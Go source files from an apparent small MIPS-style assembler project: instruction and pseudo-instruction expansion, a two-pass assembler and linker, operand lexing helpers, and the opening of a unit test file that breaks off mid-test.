		binary.LittleEndian.PutUint32(out[i*4:], w)
	}
	return nil
}

func (a *assembler) emitDirective(st stmt, out []byte) error {
	switch st.op {
	case ".align":
		return nil // padding already zero
	case ".word":
		pad := align4(st.off) - st.off
		for i, arg := range st.args {
			v, err := a.resolve(st.file, st.line, arg)
			if err != nil {
				return err
			}
			binary.LittleEndian.PutUint32(out[pad+uint32(i*4):], v)
		}
		return nil
	case ".half":
		pad := align2(st.off) - st.off
		for i, arg := range st.args {
			v, err := a.resolve(st.file, st.line, arg)
			if err != nil {
				return err
			}
			if int32(v) < -32768 || int32(v) > 65535 {
				return errf(st.file, st.line, ".half value %d out of range", int32(v))
			}
			binary.LittleEndian.PutUint16(out[pad+uint32(i*2):], uint16(v))
		}
		return nil
	case ".byte":
		for i, arg := range st.args {
			v, err := a.resolve(st.file, st.line, arg)
			if err != nil {
				return err
			}
			if int32(v) < -128 || int32(v) > 255 {
				return errf(st.file, st.line, ".byte value %d out of range", int32(v))
			}
			out[i] = byte(v)
		}
		return nil
	case ".ascii", ".asciiz":
		s, err := parseStringLit(st.args[0])
		if err != nil {
			return errf(st.file, st.line, "%v", err)
		}
		copy(out, s)
		return nil
	case ".space":
		return nil // zero-filled
	}
	return errf(st.file, st.line, "internal: unemittable directive %q", st.op)
}

// expand translates one mnemonic (real or pseudo) into machine words.
func (a *assembler) expand(st stmt, addr uint32) ([]uint32, error) {
	fail := func(format string, args ...any) ([]uint32, error) {
		return nil, errf(st.file, st.line, format, args...)
	}
	reg := func(s string) (isa.Register, error) {
		r, ok := isa.RegisterByName(strings.TrimSpace(s))
		if !ok {
			return 0, errf(st.file, st.line, "bad register %q", s)
		}
		return r, nil
	}
	need := func(n int) error {
		if len(st.args) != n {
			return errf(st.file, st.line, "%s wants %d operands, got %d", st.op, n, len(st.args))
		}
		return nil
	}
	one := func(in isa.Instruction) ([]uint32, error) {
		w, err := isa.Encode(in)
		if err != nil {
			return fail("%v", err)
		}
		return []uint32{w}, nil
	}

	// Pseudo-instructions first.
	switch st.op {
	case "li":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		v, err := parseNumber(st.args[1])
		if err != nil {
			return fail("li immediate %q: %v", st.args[1], err)
		}
		return a.materialize(rd, uint32(v), v >= -32768 && v <= 65535)
	case "la":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		v, err := a.resolve(st.file, st.line, st.args[1])
		if err != nil {
			return nil, err
		}
		return a.materialize(rd, v, false)
	case "move":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rs, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: isa.OpADDU, Rd: rd, Rs: rs, Rt: isa.RegZero})
	case "neg":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rs, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: isa.OpSUB, Rd: rd, Rs: isa.RegZero, Rt: rs})
	case "not":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rs, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: isa.OpNOR, Rd: rd, Rs: rs, Rt: isa.RegZero})
	case "b":
		if err := need(1); err != nil {
			return nil, err
		}
		off, err := a.branchOffset(st, addr, st.args[0])
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: isa.OpBEQ, Rs: isa.RegZero, Rt: isa.RegZero, Imm: off})
	case "beqz", "bnez":
		if err := need(2); err != nil {
			return nil, err
		}
		rs, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		off, err := a.branchOffset(st, addr, st.args[1])
		if err != nil {
			return nil, err
		}
		op := isa.OpBEQ
		if st.op == "bnez" {
			op = isa.OpBNE
		}
		return one(isa.Instruction{Op: op, Rs: rs, Rt: isa.RegZero, Imm: off})
	case "seqz":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rs, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: isa.OpSLTIU, Rt: rd, Rs: rs, Imm: 1})
	case "snez":
		if err := need(2); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rs, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: isa.OpSLTU, Rd: rd, Rs: isa.RegZero, Rt: rs})
	case "bge", "bgt", "ble", "blt", "bgeu", "bgtu", "bleu", "bltu":
		return a.expandCmpBranch(st, addr)
	}

	op, ok := isa.OpcodeByName(st.op)
	if !ok {
		return fail("unknown mnemonic %q", st.op)
	}
	switch op.Kind() {
	case isa.KindSystem:
		if err := need(0); err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: op})
	case isa.KindLoad, isa.KindStore:
		return a.expandMem(st, op)
	case isa.KindJump:
		if err := need(1); err != nil {
			return nil, err
		}
		target, err := a.resolve(st.file, st.line, st.args[0])
		if err != nil {
			return nil, err
		}
		if target&3 != 0 {
			return fail("jump target %#x not word-aligned", target)
		}
		if (addr+4)&0xF0000000 != target&0xF0000000 {
			return fail("jump target %#x out of region for pc %#x", target, addr)
		}
		return one(isa.Instruction{Op: op, Target: target >> 2 & (1<<26 - 1)})
	case isa.KindJumpReg:
		if op == isa.OpJR {
			if err := need(1); err != nil {
				return nil, err
			}
			rs, err := reg(st.args[0])
			if err != nil {
				return nil, err
			}
			return one(isa.Instruction{Op: op, Rs: rs})
		}
		// jalr rd, rs | jalr rs (rd defaults to $ra).
		rd, rsArg := isa.RegRA, ""
		switch len(st.args) {
		case 1:
			rsArg = st.args[0]
		case 2:
			r, err := reg(st.args[0])
			if err != nil {
				return nil, err
			}
			rd, rsArg = r, st.args[1]
		default:
			return fail("jalr wants 1 or 2 operands")
		}
		rs, err := reg(rsArg)
		if err != nil {
			return nil, err
		}
		return one(isa.Instruction{Op: op, Rd: rd, Rs: rs})
	case isa.KindBranch:
		switch op {
		case isa.OpBEQ, isa.OpBNE:
			if err := need(3); err != nil {
				return nil, err
			}
			rs, err := reg(st.args[0])
			if err != nil {
				return nil, err
			}
			rt, err := reg(st.args[1])
			if err != nil {
				return nil, err
			}
			off, err := a.branchOffset(st, addr, st.args[2])
			if err != nil {
				return nil, err
			}
			return one(isa.Instruction{Op: op, Rs: rs, Rt: rt, Imm: off})
		default: // blez/bgtz/bltz/bgez
			if err := need(2); err != nil {
				return nil, err
			}
			rs, err := reg(st.args[0])
			if err != nil {
				return nil, err
			}
			off, err := a.branchOffset(st, addr, st.args[1])
			if err != nil {
				return nil, err
			}
			return one(isa.Instruction{Op: op, Rs: rs, Imm: off})
		}
	case isa.KindShift:
		if err := need(3); err != nil {
			return nil, err
		}
		rd, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rt, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		switch op {
		case isa.OpSLL, isa.OpSRL, isa.OpSRA:
			n, err := parseNumber(st.args[2])
			if err != nil || n < 0 || n > 31 {
				return fail("bad shift amount %q", st.args[2])
			}
			return one(isa.Instruction{Op: op, Rd: rd, Rt: rt, Shamt: uint8(n)})
		default:
			rs, err := reg(st.args[2])
			if err != nil {
				return nil, err
			}
			return one(isa.Instruction{Op: op, Rd: rd, Rt: rt, Rs: rs})
		}
	}
	// Remaining: three-register ALU, immediate ALU, compares, LUI.
	switch op {
	case isa.OpLUI:
		if err := need(2); err != nil {
			return nil, err
		}
		rt, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		v, err := parseNumber(st.args[1])
		if err != nil || v < -32768 || v > 65535 {
			return fail("bad lui immediate %q", st.args[1])
		}
		return one(isa.Instruction{Op: op, Rt: rt, Imm: int32(int16(uint16(v)))})
	case isa.OpADDI, isa.OpADDIU, isa.OpSLTI, isa.OpSLTIU, isa.OpANDI, isa.OpORI, isa.OpXORI:
		if err := need(3); err != nil {
			return nil, err
		}
		rt, err := reg(st.args[0])
		if err != nil {
			return nil, err
		}
		rs, err := reg(st.args[1])
		if err != nil {
			return nil, err
		}
		v, err := parseNumber(st.args[2])
		if err != nil || v < -32768 || v > 65535 {
			return fail("immediate %q out of 16-bit range", st.args[2])
		}
		return one(isa.Instruction{Op: op, Rt: rt, Rs: rs, Imm: int32(int16(uint16(v)))})
	}
	if err := need(3); err != nil {
		return nil, err
	}
	rd, err := reg(st.args[0])
	if err != nil {
		return nil, err
	}
	rs, err := reg(st.args[1])
	if err != nil {
		return nil, err
	}
	rt, err := reg(st.args[2])
	if err != nil {
		return nil, err
	}
	return one(isa.Instruction{Op: op, Rd: rd, Rs: rs, Rt: rt})
}

// materialize loads a 32-bit constant into rd: one ADDIU/ORI when short is
// true, otherwise the canonical LUI+ORI pair (always 2 words).
func (a *assembler) materialize(rd isa.Register, v uint32, short bool) ([]uint32, error) {
	if short {
		sv := int32(v)
		var in isa.Instruction
		if sv >= -32768 && sv < 0 {
			in = isa.Instruction{Op: isa.OpADDIU, Rt: rd, Rs: isa.RegZero, Imm: sv}
		} else {
			in = isa.Instruction{Op: isa.OpORI, Rt: rd, Rs: isa.RegZero, Imm: int32(int16(uint16(v)))}
		}
		w, err := isa.Encode(in)
		if err != nil {
			return nil, err
		}
		return []uint32{w}, nil
	}
	hi, err := isa.Encode(isa.Instruction{Op: isa.OpLUI, Rt: rd, Imm: int32(int16(uint16(v >> 16)))})
	if err != nil {
		return nil, err
	}
	lo, err := isa.Encode(isa.Instruction{Op: isa.OpORI, Rt: rd, Rs: rd, Imm: int32(int16(uint16(v)))})
	if err != nil {
		return nil, err
	}
	return []uint32{hi, lo}, nil
}

// expandMem handles lb/lh/lw/sb/sh/sw in both "rt, off(rs)" and symbolic
// "rt, sym[+off]" forms.
func (a *assembler) expandMem(st stmt, op isa.Opcode) ([]uint32, error) {
	if len(st.args) != 2 {
		return nil, errf(st.file, st.line, "%s wants rt, addr", st.op)
	}
	rt, ok := isa.RegisterByName(strings.TrimSpace(st.args[0]))
	if !ok {
		return nil, errf(st.file, st.line, "bad register %q", st.args[0])
	}
	operand := strings.TrimSpace(st.args[1])
	if i := strings.IndexByte(operand, '('); i >= 0 {
		if !strings.HasSuffix(operand, ")") {
			return nil, errf(st.file, st.line, "malformed address %q", operand)
		}
		base, ok := isa.RegisterByName(operand[i+1 : len(operand)-1])
		if !ok {
			return nil, errf(st.file, st.line, "bad base register in %q", operand)
		}
		off := int64(0)
		if i > 0 {
			var err error
			off, err = parseNumber(operand[:i])
			if err != nil {
				return nil, errf(st.file, st.line, "bad offset in %q", operand)
			}
		}
		if off < -32768 || off > 32767 {
			return nil, errf(st.file, st.line, "offset %d out of range", off)
		}
		w, err := isa.Encode(isa.Instruction{Op: op, Rt: rt, Rs: base, Imm: int32(off)})
		if err != nil {
			return nil, err
		}
		return []uint32{w}, nil
	}
	// Symbolic: lui $at, %hi; op rt, %lo($at). Compensate for the sign
	// extension of the low half by pre-adjusting the high half.
	addr, err := a.resolve(st.file, st.line, operand)
	if err != nil {
		return nil, err
	}
	lo := uint16(addr)
	hi := uint16(addr >> 16)
	if int16(lo) < 0 {
		hi++
	}
	luiW, err := isa.Encode(isa.Instruction{Op: isa.OpLUI, Rt: isa.RegAT, Imm: int32(int16(hi))})
	if err != nil {
		return nil, err
	}
	memW, err := isa.Encode(isa.Instruction{Op: op, Rt: rt, Rs: isa.RegAT, Imm: int32(int16(lo))})
	if err != nil {
		return nil, err
	}
	return []uint32{luiW, memW}, nil
}

// expandCmpBranch lowers the two-instruction comparison branches
// (bge/bgt/ble/blt and unsigned variants) via $at.
func (a *assembler) expandCmpBranch(st stmt, addr uint32) ([]uint32, error) {
	if len(st.args) != 3 {
		return nil, errf(st.file, st.line, "%s wants rs, rt, label", st.op)
	}
	rs, ok := isa.RegisterByName(strings.TrimSpace(st.args[0]))
	if !ok {
		return nil, errf(st.file, st.line, "bad register %q", st.args[0])
	}
	rt, ok := isa.RegisterByName(strings.TrimSpace(st.args[1]))
	if !ok {
		return nil, errf(st.file, st.line, "bad register %q", st.args[1])
	}
	slt := isa.OpSLT
	if strings.HasSuffix(st.op, "u") {
		slt = isa.OpSLTU
	}
	var cmp isa.Instruction
	var branch isa.Opcode
	switch strings.TrimSuffix(st.op, "u") {
	case "bge": // !(rs < rt)
		cmp = isa.Instruction{Op: slt, Rd: isa.RegAT, Rs: rs, Rt: rt}
		branch = isa.OpBEQ
	case "blt": // rs < rt
		cmp = isa.Instruction{Op: slt, Rd: isa.RegAT, Rs: rs, Rt: rt}
		branch = isa.OpBNE
	case "bgt": // rt < rs
		cmp = isa.Instruction{Op: slt, Rd: isa.RegAT, Rs: rt, Rt: rs}
		branch = isa.OpBNE
	case "ble": // !(rt < rs)
		cmp = isa.Instruction{Op: slt, Rd: isa.RegAT, Rs: rt, Rt: rs}
		branch = isa.OpBEQ
	}
	// The branch is the second word: offset is relative to addr+4.
	off, err := a.branchOffset(st, addr+4, st.args[2])
	if err != nil {
		return nil, err
	}
	cmpW, err := isa.Encode(cmp)
	if err != nil {
		return nil, err
	}
	brW, err := isa.Encode(isa.Instruction{Op: branch, Rs: isa.RegAT, Rt: isa.RegZero, Imm: off})
	if err != nil {
		return nil, err
	}
	return []uint32{cmpW, brW}, nil
}

// branchOffset computes the signed word offset from the branch at addr to
// the labeled target.
func (a *assembler) branchOffset(st stmt, addr uint32, label string) (int32, error) {
	target, err := a.resolve(st.file, st.line, label)
	if err != nil {
		return 0, err
	}
	diff := int64(target) - int64(addr) - 4
	if diff&3 != 0 {
		return 0, errf(st.file, st.line, "branch target %#x misaligned", target)
	}
	off := diff >> 2
	if off < -32768 || off > 32767 {
		return 0, errf(st.file, st.line, "branch to %q out of range (%d words)", label, off)
	}
	return int32(off), nil
}
