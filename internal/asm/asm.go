package asm

import (
	"fmt"
	"strconv"
	"strings"

	"repro/internal/isa"
)

// Source is one assembly translation unit.
type Source struct {
	Name string
	Text string
}

// Assemble assembles and links the given sources into a single image. All
// sources share one symbol namespace (a trivial static link); .text and
// .data contributions are concatenated in source order.
func Assemble(sources ...Source) (*Image, error) {
	a := &assembler{symbols: make(map[string]symbol, 256)}
	for _, src := range sources {
		if err := a.pass1(src); err != nil {
			return nil, err
		}
	}
	return a.pass2()
}

// AssembleString assembles a single anonymous source.
func AssembleString(text string) (*Image, error) {
	return Assemble(Source{Name: "input.s", Text: text})
}

type section uint8

const (
	secText section = iota
	secData
)

type symbol struct {
	sec  section
	off  uint32 // offset within section
	file string
	line int
}

// stmt is one size-determined statement awaiting pass-2 emission.
type stmt struct {
	file string
	line int
	sec  section
	off  uint32 // section offset of first emitted byte
	op   string
	args []string
	size uint32 // bytes emitted
}

type assembler struct {
	symbols map[string]symbol
	stmts   []stmt
	textLen uint32
	dataLen uint32
	entry   string
}

func (a *assembler) cursor(sec section) *uint32 {
	if sec == secText {
		return &a.textLen
	}
	return &a.dataLen
}

// pass1 tokenizes src, defines labels, and sizes every statement.
func (a *assembler) pass1(src Source) error {
	sec := secText
	lines := strings.Split(src.Text, "\n")
	for i, raw := range lines {
		lineNo := i + 1
		line := stripComment(raw)
		// Peel off any leading labels.
		for {
			trimmed := strings.TrimSpace(line)
			if trimmed == "" {
				line = ""
				break
			}
			colon := labelEnd(trimmed)
			if colon < 0 {
				line = trimmed
				break
			}
			name := trimmed[:colon]
			if !validIdent(name) {
				return errf(src.Name, lineNo, "invalid label %q", name)
			}
			if prev, dup := a.symbols[name]; dup {
				return errf(src.Name, lineNo, "label %q redefined (first at %s:%d)",
					name, prev.file, prev.line)
			}
			a.symbols[name] = symbol{sec: sec, off: *a.cursor(sec), file: src.Name, line: lineNo}
			line = trimmed[colon+1:]
		}
		fields := splitOp(line)
		if len(fields) == 0 {
			continue
		}
		op, args := fields[0], fields[1:]
		if strings.HasPrefix(op, ".") {
			newSec, size, err := a.sizeDirective(src.Name, lineNo, sec, op, args)
			if err != nil {
				return err
			}
			if op == ".text" || op == ".data" {
				sec = newSec
				continue
			}
			if size == 0 && op != ".align" {
				continue // non-emitting directive (.globl, .entry)
			}
			a.addStmt(src.Name, lineNo, sec, op, args, size)
			continue
		}
		size, err := instrSize(src.Name, lineNo, op, args)
		if err != nil {
			return err
		}
		if sec != secText {
			return errf(src.Name, lineNo, "instruction %q outside .text", op)
		}
		a.addStmt(src.Name, lineNo, sec, op, args, size)
	}
	return nil
}

func (a *assembler) addStmt(file string, line int, sec section, op string, args []string, size uint32) {
	cur := a.cursor(sec)
	a.stmts = append(a.stmts, stmt{
		file: file, line: line, sec: sec, off: *cur, op: op, args: args, size: size,
	})
	*cur += size
}

// sizeDirective computes the emitted size of a directive and handles
// section switches and .entry/.globl bookkeeping.
func (a *assembler) sizeDirective(file string, line int, sec section, op string, args []string) (section, uint32, error) {
	switch op {
	case ".text":
		return secText, 0, nil
	case ".data":
		return secData, 0, nil
	case ".globl", ".global":
		if len(args) != 1 {
			return sec, 0, errf(file, line, "%s wants one symbol", op)
		}
		return sec, 0, nil
	case ".entry":
		if len(args) != 1 {
			return sec, 0, errf(file, line, ".entry wants one symbol")
		}
		a.entry = args[0]
		return sec, 0, nil
	case ".word":
		if len(args) == 0 {
			return sec, 0, errf(file, line, ".word wants values")
		}
		pad := align4(*a.cursor(sec)) - *a.cursor(sec)
		return sec, pad + 4*uint32(len(args)), nil
	case ".half":
		if len(args) == 0 {
			return sec, 0, errf(file, line, ".half wants values")
		}
		pad := align2(*a.cursor(sec)) - *a.cursor(sec)
		return sec, pad + 2*uint32(len(args)), nil
	case ".byte":
		if len(args) == 0 {
			return sec, 0, errf(file, line, ".byte wants values")
		}
		return sec, uint32(len(args)), nil
	case ".ascii", ".asciiz":
		if len(args) != 1 {
			return sec, 0, errf(file, line, "%s wants one string", op)
		}
		s, err := parseStringLit(args[0])
		if err != nil {
			return sec, 0, errf(file, line, "%v", err)
		}
		n := uint32(len(s))
		if op == ".asciiz" {
			n++
		}
		return sec, n, nil
	case ".space":
		if len(args) != 1 {
			return sec, 0, errf(file, line, ".space wants a byte count")
		}
		n, err := strconv.ParseUint(args[0], 0, 32)
		if err != nil {
			return sec, 0, errf(file, line, ".space wants a byte count")
		}
		return sec, uint32(n), nil
	case ".align":
		if len(args) != 1 {
			return sec, 0, errf(file, line, ".align wants an exponent")
		}
		n, err := strconv.ParseUint(args[0], 0, 5)
		if err != nil {
			return sec, 0, errf(file, line, "bad .align %q", args[0])
		}
		cur := *a.cursor(sec)
		aligned := alignTo(cur, 1<<uint(n))
		return sec, aligned - cur, nil
	}
	return sec, 0, errf(file, line, "unknown directive %q", op)
}

// instrSize returns how many bytes op expands to.
func instrSize(file string, line int, op string, args []string) (uint32, error) {
	switch op {
	case "li":
		if len(args) != 2 {
			return 0, errf(file, line, "li wants rd, imm")
		}
		v, err := parseNumber(args[1])
		if err != nil {
			return 0, errf(file, line, "li immediate %q: %v", args[1], err)
		}
		if v >= -32768 && v <= 65535 {
			return 4, nil
		}
		return 8, nil
	case "la":
		return 8, nil
	case "bge", "bgt", "ble", "blt", "bgeu", "bgtu", "bleu", "bltu":
		return 8, nil
	case "lb", "lbu", "lh", "lhu", "lw", "sb", "sh", "sw":
		if len(args) != 2 {
			return 0, errf(file, line, "%s wants rt, addr", op)
		}
		if strings.Contains(args[1], "(") {
			return 4, nil
		}
		return 8, nil // symbolic address: lui $at + access
	}
	if _, ok := isa.OpcodeByName(op); ok {
		return 4, nil
	}
	switch op {
	case "move", "neg", "not", "b", "beqz", "bnez", "seqz", "snez":
		return 4, nil
	}
	return 0, errf(file, line, "unknown mnemonic %q", op)
}

// pass2 emits all statements into their segments and builds the image.
func (a *assembler) pass2() (*Image, error) {
	text := make([]byte, a.textLen)
	data := make([]byte, a.dataLen)
	im := &Image{
		Symbols: make(map[string]uint32, len(a.symbols)),
		DataEnd: DataBase + a.dataLen,
	}
	for name, s := range a.symbols {
		im.Symbols[name] = a.symAddr(s)
	}
	for _, st := range a.stmts {
		buf := text
		base := uint32(TextBase)
		if st.sec == secData {
			buf, base = data, DataBase
		}
		if err := a.emit(st, buf[st.off:st.off+st.size], base+st.off); err != nil {
			return nil, err
		}
	}
	im.Segments = []Segment{
		{Addr: TextBase, Data: text},
		{Addr: DataBase, Data: data},
	}
	entryName := a.entry
	if entryName == "" {
		if _, ok := im.Symbols["_start"]; ok {
			entryName = "_start"
		} else if _, ok := im.Symbols["main"]; ok {
			entryName = "main"
		}
	}
	if entryName != "" {
		e, ok := im.Symbols[entryName]
		if !ok {
			return nil, fmt.Errorf("entry symbol %q undefined", entryName)
		}
		im.Entry = e
	} else {
		im.Entry = TextBase
	}
	return im, nil
}

func (a *assembler) symAddr(s symbol) uint32 {
	if s.sec == secText {
		return TextBase + s.off
	}
	return DataBase + s.off
}

// resolve evaluates an expression operand: NUMBER, SYMBOL, SYMBOL+N,
// SYMBOL-N.
func (a *assembler) resolve(file string, line int, expr string) (uint32, error) {
	expr = strings.TrimSpace(expr)
	if expr == "" {
		return 0, errf(file, line, "empty expression")
	}
	if v, err := parseNumber(expr); err == nil {
		return uint32(v), nil
	}
	// SYMBOL, optionally +/- numeric offset.
	name, off := expr, int64(0)
	for i := 1; i < len(expr); i++ {
		if expr[i] == '+' || expr[i] == '-' {
			n, err := parseNumber(expr[i+1:])
			if err != nil {
				return 0, errf(file, line, "bad offset in %q", expr)
			}
			name = expr[:i]
			if expr[i] == '-' {
				off = -n
			} else {
				off = n
			}
			break
		}
	}
	sym, ok := a.symbols[name]
	if !ok {
		return 0, errf(file, line, "undefined symbol %q", name)
	}
	return a.symAddr(sym) + uint32(off), nil
}

func align2(v uint32) uint32 { return (v + 1) &^ 1 }
func align4(v uint32) uint32 { return (v + 3) &^ 3 }
func alignTo(v, n uint32) uint32 {
	return (v + n - 1) &^ (n - 1)
}
