package asm

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
)

// stripComment removes '#' and ';' comments, respecting string and
// character literals.
func stripComment(line string) string {
	inStr, inChar, esc := false, false, false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case esc:
			esc = false
		case c == '\\' && (inStr || inChar):
			esc = true
		case c == '"' && !inChar:
			inStr = !inStr
		case c == '\'' && !inStr:
			inChar = !inChar
		case (c == '#' || c == ';') && !inStr && !inChar:
			return line[:i]
		}
	}
	return line
}

// labelEnd returns the index of the colon terminating a leading label, or
// -1 when the line does not begin with a label.
func labelEnd(s string) int {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == ':' {
			return i
		}
		if !identChar(c) {
			return -1
		}
	}
	return -1
}

func identChar(c byte) bool {
	return c == '_' || c == '.' ||
		c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}

func validIdent(s string) bool {
	if s == "" {
		return false
	}
	if s[0] >= '0' && s[0] <= '9' {
		return false
	}
	for i := 0; i < len(s); i++ {
		if !identChar(s[i]) {
			return false
		}
	}
	return true
}

// splitOp splits "op a, b, c" into ["op", "a", "b", "c"], keeping quoted
// strings and parenthesized memory operands intact.
func splitOp(line string) []string {
	line = strings.TrimSpace(line)
	if line == "" {
		return nil
	}
	sp := strings.IndexAny(line, " \t")
	if sp < 0 {
		return []string{line}
	}
	op := line[:sp]
	rest := strings.TrimSpace(line[sp+1:])
	if rest == "" {
		return []string{op}
	}
	args := splitArgs(rest)
	out := make([]string, 0, 1+len(args))
	out = append(out, op)
	out = append(out, args...)
	return out
}

// splitArgs splits a comma-separated operand list, respecting quotes.
func splitArgs(s string) []string {
	var out []string
	depth := 0
	inStr, inChar, esc := false, false, false
	start := 0
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case esc:
			esc = false
		case c == '\\' && (inStr || inChar):
			esc = true
		case c == '"' && !inChar:
			inStr = !inStr
		case c == '\'' && !inStr:
			inChar = !inChar
		case inStr || inChar:
		case c == '(':
			depth++
		case c == ')':
			depth--
		case c == ',' && depth == 0:
			out = append(out, strings.TrimSpace(s[start:i]))
			start = i + 1
		}
	}
	out = append(out, strings.TrimSpace(s[start:]))
	return out
}

// parseNumber parses decimal, hex (0x), octal (0o), binary (0b), negative,
// and character-literal ('a', '\n') numeric operands.
func parseNumber(s string) (int64, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return 0, errors.New("empty number")
	}
	if s[0] == '\'' {
		c, err := parseCharLit(s)
		return int64(c), err
	}
	neg := false
	if s[0] == '+' || s[0] == '-' {
		neg = s[0] == '-'
		s = s[1:]
	}
	v, err := strconv.ParseUint(s, 0, 32)
	if err != nil {
		return 0, fmt.Errorf("bad number %q", s)
	}
	if neg {
		return -int64(v), nil
	}
	return int64(v), nil
}

// parseCharLit parses 'x' and escape forms.
func parseCharLit(s string) (byte, error) {
	if len(s) < 3 || s[0] != '\'' || s[len(s)-1] != '\'' {
		return 0, fmt.Errorf("bad character literal %q", s)
	}
	body := s[1 : len(s)-1]
	if body[0] != '\\' {
		if len(body) != 1 {
			return 0, fmt.Errorf("bad character literal %q", s)
		}
		return body[0], nil
	}
	b, rest, err := parseEscape(body)
	if err != nil || rest != "" {
		return 0, fmt.Errorf("bad character literal %q", s)
	}
	return b, nil
}

// parseEscape decodes one backslash escape at the start of s, returning the
// byte and the remainder.
func parseEscape(s string) (byte, string, error) {
	if len(s) < 2 || s[0] != '\\' {
		return 0, "", fmt.Errorf("bad escape %q", s)
	}
	switch s[1] {
	case 'n':
		return '\n', s[2:], nil
	case 't':
		return '\t', s[2:], nil
	case 'r':
		return '\r', s[2:], nil
	case '0':
		return 0, s[2:], nil
	case '\\':
		return '\\', s[2:], nil
	case '\'':
		return '\'', s[2:], nil
	case '"':
		return '"', s[2:], nil
	case 'x':
		if len(s) < 4 {
			return 0, "", fmt.Errorf("bad hex escape %q", s)
		}
		v, err := strconv.ParseUint(s[2:4], 16, 8)
		if err != nil {
			return 0, "", fmt.Errorf("bad hex escape %q", s)
		}
		return byte(v), s[4:], nil
	}
	return 0, "", fmt.Errorf("unknown escape %q", s)
}

// parseStringLit decodes a double-quoted string literal with escapes.
func parseStringLit(s string) ([]byte, error) {
	s = strings.TrimSpace(s)
	if len(s) < 2 || s[0] != '"' || s[len(s)-1] != '"' {
		return nil, fmt.Errorf("bad string literal %q", s)
	}
	body := s[1 : len(s)-1]
	out := make([]byte, 0, len(body))
	for len(body) > 0 {
		if body[0] == '\\' {
			b, rest, err := parseEscape(body)
			if err != nil {
				return nil, err
			}
			out = append(out, b)
			body = rest
			continue
		}
		if body[0] == '"' {
			// An unescaped interior quote means this is not one literal.
			return nil, fmt.Errorf("bad string literal %q", s)
		}
		out = append(out, body[0])
		body = body[1:]
	}
	return out, nil
}
