package asm

import (
	"encoding/binary"
	"strings"
	"testing"

	"repro/internal/isa"
)

// textWords assembles src and returns the decoded text-segment instructions.
func textWords(t *testing.T, src string) []isa.Instruction {
	t.Helper()
	im, err := AssembleString(src)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	text := im.Segments[0]
	out := make([]isa.Instruction, 0, len(text.Data)/4)
	for i := 0; i+4 <= len(text.Data); i += 4 {
		w := binary.LittleEndian.Uint32(text.Data[i:])
		in, err := isa.Decode(w)
		if err != nil {
			t.Fatalf("decode word %d (%#08x): %v", i/4, w, err)
		}
		out = append(out, in)
	}
	return out
}

func TestBasicInstructions(t *testing.T) {
	ins := textWords(t, `
		.text
	main:
		add $t0, $t1, $t2
		addi $sp, $sp, -16
		lw $ra, 12($sp)
		sw $a0, 0($sp)
		sll $t0, $t0, 2
		srav $t1, $t2, $t3
		jr $ra
		syscall
		nop
	`)
	want := []isa.Instruction{
		{Op: isa.OpADD, Rd: isa.RegT0, Rs: isa.RegT1, Rt: isa.RegT2},
		{Op: isa.OpADDI, Rt: isa.RegSP, Rs: isa.RegSP, Imm: -16},
		{Op: isa.OpLW, Rt: isa.RegRA, Rs: isa.RegSP, Imm: 12},
		{Op: isa.OpSW, Rt: isa.RegA0, Rs: isa.RegSP, Imm: 0},
		{Op: isa.OpSLL, Rd: isa.RegT0, Rt: isa.RegT0, Shamt: 2},
		{Op: isa.OpSRAV, Rd: isa.RegT1, Rt: isa.RegT2, Rs: isa.RegT3},
		{Op: isa.OpJR, Rs: isa.RegRA},
		{Op: isa.OpSYSCALL},
		{Op: isa.OpNOP},
	}
	if len(ins) != len(want) {
		t.Fatalf("got %d instructions, want %d", len(ins), len(want))
	}
	for i := range want {
		if ins[i] != want[i] {
			t.Errorf("instr %d = %+v, want %+v", i, ins[i], want[i])
		}
	}
}

func TestLiExpansion(t *testing.T) {
	ins := textWords(t, `
		li $t0, 42
		li $t1, -5
		li $t2, 0xFFFF
		li $t3, 0x10020000
	`)
	want := []isa.Instruction{
		{Op: isa.OpORI, Rt: isa.RegT0, Rs: isa.RegZero, Imm: 42},
		{Op: isa.OpADDIU, Rt: isa.RegT1, Rs: isa.RegZero, Imm: -5},
		{Op: isa.OpORI, Rt: isa.RegT2, Rs: isa.RegZero, Imm: -1},
		{Op: isa.OpLUI, Rt: isa.RegT3, Imm: 0x1002},
		{Op: isa.OpORI, Rt: isa.RegT3, Rs: isa.RegT3, Imm: 0},
	}
	if len(ins) != len(want) {
		t.Fatalf("got %d instructions, want %d: %+v", len(ins), len(want), ins)
	}
	for i := range want {
		if ins[i] != want[i] {
			t.Errorf("instr %d = %+v, want %+v", i, ins[i], want[i])
		}
	}
}

func TestLaAndSymbolicLoads(t *testing.T) {
	im, err := AssembleString(`
		.data
	msg:	.asciiz "hi"
		.align 2
